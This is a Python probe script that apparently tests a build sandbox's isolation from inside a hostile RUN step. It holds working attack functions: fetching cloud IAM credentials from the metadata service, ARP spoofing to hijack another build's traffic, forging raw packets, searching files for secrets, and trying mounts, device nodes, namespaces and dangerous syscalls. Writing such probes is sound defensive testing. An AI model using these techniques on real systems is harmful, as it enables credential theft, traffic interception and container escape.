"""What a hostile RUN step tries: `attack_probe.py FILE WHAT ARGUMENT ...` writes what it got, or how that failed.

Runs in RUN steps with Debian's Python, and on the builder's own side of the wall to show what there is to get.
"""

import contextlib
import ctypes
import json
import os
import platform
import socket
import ssl
import stat
import struct
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

PATIENCE_SECONDS = 1.0
GATEWAY = "10.10.0.1"
PORT = 40000
SYSTEM_CALLS = {  # on x86_64 and on arm64: https://github.com/torvalds/linux/blob/v6.1/scripts/syscall.tbl and its kin
    "add_key": (248, 217),
    "bpf": (321, 280),
    "init_module": (175, 105),
    "io_uring_setup": (425, 425),
    "kexec_load": (246, 104),
    "open_by_handle_at": (304, 265),
    "perf_event_open": (298, 241),
    "reboot": (169, 142),
    "userfaultfd": (323, 282),
}
_LIBC = ctypes.CDLL(None, use_errno=True)


def http(method: str, url: str, *headers: str) -> str:
    """Return the status and the body that a request gets, each header given as `Name:value`."""
    fields = dict(header.split(":", 1) for header in headers)
    request = urllib.request.Request(url, method=method, headers=fields)  # noqa: S310 - http is what is attacked
    direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with direct.open(request, timeout=PATIENCE_SECONDS) as answer:
            return f"{answer.status} {answer.read().decode()}"
    except urllib.error.HTTPError as answer:
        return f"{answer.code} {answer.read().decode()}"


def credentials(address: str) -> str:
    """Return the role's credentials from a metadata service, the way that SDKs take: version 2."""
    top = f"http://{address}/latest"
    _, token = http("PUT", f"{top}/api/token", "X-aws-ec2-metadata-token-ttl-seconds:60").split(" ", 1)
    header = f"X-aws-ec2-metadata-token:{token}"
    _, role = http("GET", f"{top}/meta-data/iam/security-credentials/", header).split(" ", 1)
    return http("GET", f"{top}/meta-data/iam/security-credentials/{role}", header)


def connect(address: str, port: str) -> str:
    """Open a TCP connection; to a link-local address, through the step's one interface."""
    if address.startswith("fe80:"):
        address += f"%{_interface()}"
    socket.create_connection((address, int(port)), PATIENCE_SECONDS).close()
    return "connected"


def ask(address: str, port: str) -> str:
    """Return the answer to a datagram."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(PATIENCE_SECONDS)
        asking.sendto(b"?", (address, int(port)))
        return asking.recv(100).decode()


def look_up(name: str) -> str:
    """Return an address of a host name."""
    return str(socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM)[0][4][0])


def speak_tls(address: str, port: str, *certificate: str) -> str:
    """Return how the daemon begins to talk, to a client with the certificate and the key in the files given, if any."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE  # an attacker does not ask whom it talks to
    context.set_alpn_protocols(["h2"])
    if certificate:
        context.load_cert_chain(*certificate)
    with (
        socket.create_connection((address, int(port)), PATIENCE_SECONDS) as plain,
        context.wrap_socket(plain) as speaking,
    ):
        # HTTP/2 lets the server speak first; and who sends nothing cannot miss why it is sent away.
        return f"{len(speaking.recv(100))} bytes"


def forge(address: str) -> str:
    """Send a connection's first packet to port 80 in a frame for the gateway, past the step's own routing table."""
    frame = _raw_socket()
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    packet = _first_packet(family, _own_address(family), socket.inet_pton(family, address))
    kind = b"\x86\xdd" if family == socket.AF_INET6 else b"\x08\x00"
    frame.send(_gateway() + _own_link_address() + kind + packet)
    wanted = socket.inet_pton(family, address) + _own_address(family)
    for _ in _until(time.monotonic() + PATIENCE_SECONDS):
        with contextlib.suppress(TimeoutError):
            if wanted in frame.recv(2000):
                return "answered"
    return "silence"


def take_over(address: str, word: str) -> str:
    """Tell the gateway by ARP that another step's address is here, and return whether the word then arrives here."""
    frame = _raw_socket()
    own, gateway = _own_link_address(), _gateway()
    answer = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own + socket.inet_aton(address)
    answer += gateway + socket.inet_aton(GATEWAY)
    for _ in _until(time.monotonic() + 3 * PATIENCE_SECONDS):
        frame.send(gateway + own + b"\x08\x06" + answer)
        with contextlib.suppress(TimeoutError):
            if word.encode() in frame.recv(2000):
                return "taken over"
    return "silence"


def _raw_socket() -> socket.socket:
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    raw.bind((_interface(), 0))
    raw.settimeout(0.1)
    return raw


def _gateway() -> bytes:
    with contextlib.suppress(OSError):
        connect(GATEWAY, "9")  # fills the ARP table
    lines = Path("/proc/net/arp").read_text().splitlines()
    (words,) = (line.split() for line in lines if line.startswith(f"{GATEWAY} "))
    return _link_address(words[3])


def _own_link_address() -> bytes:
    return _link_address(Path(f"/sys/class/net/{_interface()}/address").read_text())


def _link_address(words: str) -> bytes:
    return bytes.fromhex(words.replace(":", ""))


def _interface() -> str:
    return next(name for _, name in socket.if_nameindex() if name.startswith("eth"))


def _own_address(family: int) -> bytes:
    with socket.socket(family, socket.SOCK_DGRAM) as unsent:
        if family == socket.AF_INET:
            unsent.connect(("192.0.2.1", 9))
        else:
            unsent.connect(("fe80::1", 9, 0, socket.if_nametoindex(_interface())))
        return socket.inet_pton(family, unsent.getsockname()[0].partition("%")[0])


def _first_packet(family: int, source: bytes, destination: bytes) -> bytes:
    segment = struct.pack("!HHIIBBHHH", PORT, 80, 1, 0, 5 << 4, 2, 8192, 0, 0)
    pseudo = source + destination + struct.pack("!II", len(segment), socket.IPPROTO_TCP)
    segment = segment[:16] + _checksum(pseudo + segment) + segment[18:]
    if family == socket.AF_INET6:
        return struct.pack("!IHBB", 6 << 28, len(segment), socket.IPPROTO_TCP, 64) + source + destination + segment
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 1, 0, 64, socket.IPPROTO_TCP, 0)
    header += source + destination
    return header[:10] + _checksum(header) + header[12:] + segment


def _checksum(data: bytes) -> bytes:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", ~total & 0xFFFF)


def read(path: str) -> str:
    """Return a file's text."""
    return Path(path).read_text()


def write(path: str, text: str) -> str:
    """Write to a file."""
    Path(path).write_text(text)
    return "written"


def find(*words: str) -> str:
    """Return the files of which the name is one of the words or the content has one, of all that the step sees."""
    found = set()
    for directory, names, files in os.walk("/"):
        if directory == "/sys":
            names.clear()  # the kernel's, and endless
        for path in (Path(directory) / name for name in files):
            with contextlib.suppress(OSError):
                if path.name in words or any(word.encode() in _head(path) for word in words):
                    found.add(str(path))
    return " ".join(sorted(found))


def _head(path: Path) -> bytes:
    # What the step was given to search for is on its own command line, and in the build context.
    if (
        not path.is_file()
        or path.is_relative_to("/attack")
        or (path.is_relative_to("/proc/1") and path.name == "cmdline")
    ):
        return b""
    with path.open("rb") as file:
        return file.read(10_000)


def sockets() -> str:
    """Return the sockets in the file system and, by `@name`, those outside of it."""
    paths = (Path(directory) / name for directory, _, files in os.walk("/") for name in files)
    found = []
    for path in paths:
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(path.lstat().st_mode) and not path.is_relative_to("/proc"):
                found.append(str(path))
    abstract = [line.split()[-1] for line in Path("/proc/net/unix").read_text().splitlines() if "@" in line]
    return " ".join(sorted(found + abstract))


def processes() -> str:
    """Return the ids of all processes."""
    return " ".join(path.name for path in Path("/proc").glob("[0-9]*"))


def privileges() -> str:
    """Return the capabilities and the mode of the system call filter."""
    lines = (line.split() for line in Path("/proc/self/status").read_text().splitlines())
    return " ".join(f"{words[0]}{words[1]}" for words in lines if words[0] in ("CapEff:", "CapBnd:", "Seccomp:"))


def device(kind: str, major: str, minor: str) -> str:
    """Make a device, `block` or `character`, and open it."""
    mode = {"block": stat.S_IFBLK, "character": stat.S_IFCHR}[kind]
    path = f"/device-{kind}-{major}-{minor}"
    os.mknod(path, mode | 0o600, os.makedev(int(major), int(minor)))
    os.close(os.open(path, os.O_RDONLY))
    return "opened"


def mount(kind: str, source: str) -> str:
    """Mount a file system, or with the kind `bind` a directory."""
    Path("/mounted").mkdir(exist_ok=True)
    bind = 4096
    flags = bind if kind == "bind" else 0
    return _call("mount", source.encode(), b"/mounted", kind.encode(), flags, None)


def unshare(flags: str) -> str:
    """Leave namespaces for new ones."""
    return _call("unshare", int(flags, 16))


def _call(name: str, *arguments: bytes | int | None) -> str:
    if getattr(_LIBC, name)(*arguments):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "done"


def run(*command: str) -> str:
    """Return what a program says."""
    # Without BuildKit's variables, for which `buildctl` would first send its own traces.
    return subprocess.run(
        command, env={}, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, check=False
    ).stdout


def system_call(name: str) -> str:
    """Make a system call, with nothing in its arguments."""
    number = SYSTEM_CALLS[name][platform.machine() == "aarch64"]
    return _call("syscall", number, 0, 0, 0, 0, 0)


def open_socket(family: str, kind: str, protocol: str) -> str:
    """Open a socket of a family, kind and protocol."""
    socket.socket(getattr(socket, family), int(kind), int(protocol)).close()
    return "opened"


def writable(top: str) -> str:
    """Return the files below a directory that can be opened for writing."""
    found = []
    for directory, _, files in os.walk(top):
        for path in (Path(directory) / name for name in files):
            with contextlib.suppress(OSError):
                os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
                found.append(str(path))
    return " ".join(found)


# What the steps of other builds do meanwhile: they leave their address in a directory that the attacker sees too, and
# end with a file that is put there.


def hold(notes: str, path: str) -> str:
    """Return a file's text."""
    text = read(path)
    _announce(notes)
    for _ in _until_told(notes):
        time.sleep(0.05)
    return text


def serve(notes: str, word: str) -> str:
    """Answer HTTP on port 80 with a word, and return who asked."""
    asked = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.client_address[0])
            self.send_response(200)
            self.end_headers()
            self.wfile.write(word.encode())

    with HTTPServer(("", 80), Answer) as server:
        server.timeout = 0.05
        _announce(notes)
        for _ in _until_told(notes):
            server.handle_request()
    return " ".join(asked)


def keep_asking(notes: str, address: str, port: str) -> str:
    """Send datagrams, and return what was answered, or how it was not."""
    _announce(notes)
    got = set()
    for _ in _until_told(notes):
        try:
            got.add(ask(address, port))
        except OSError as error:
            got.add(type(error).__name__)
        time.sleep(0.05)
    return " ".join(sorted(got))


def _announce(notes: str) -> None:
    address = socket.inet_ntoa(_own_address(socket.AF_INET))
    (Path(notes) / "address.new").write_text(address)
    (Path(notes) / "address.new").rename(Path(notes) / "address")


def _until_told(notes: str) -> Iterator[None]:
    for _ in _until(time.monotonic() + 30):
        if (Path(notes) / "end").exists():
            return
        yield


def _until(deadline: float) -> Iterator[None]:
    while time.monotonic() < deadline:
        yield


def each(commands: str) -> str:
    """Return, in JSON, what each command of a JSON list of them gets."""
    return json.dumps([attempt(*command) for command in json.loads(commands)])


def attempt(what: str, *arguments: str) -> str:
    """Return what an attempt gets, or how it fails."""
    try:
        return TRICKS[what](*arguments)
    except OSError as error:
        return f"{type(error).__name__}: {error}"


TRICKS: dict[str, Callable[..., str]] = {
    **{trick.__name__: trick for trick in (http, credentials, connect, ask, look_up, speak_tls)},
    **{trick.__name__: trick for trick in (forge, take_over, open_socket, system_call, writable)},
    **{trick.__name__: trick for trick in (read, write, find, sockets, processes, privileges)},
    **{trick.__name__: trick for trick in (device, mount, unshare, run)},
    **{trick.__name__: trick for trick in (hold, serve, keep_asking, each)},
}


def main() -> None:
    """Try one thing."""
    _, file, what, *arguments = sys.argv
    Path(file).write_text(attempt(what, *arguments))


if __name__ == "__main__":
    main()
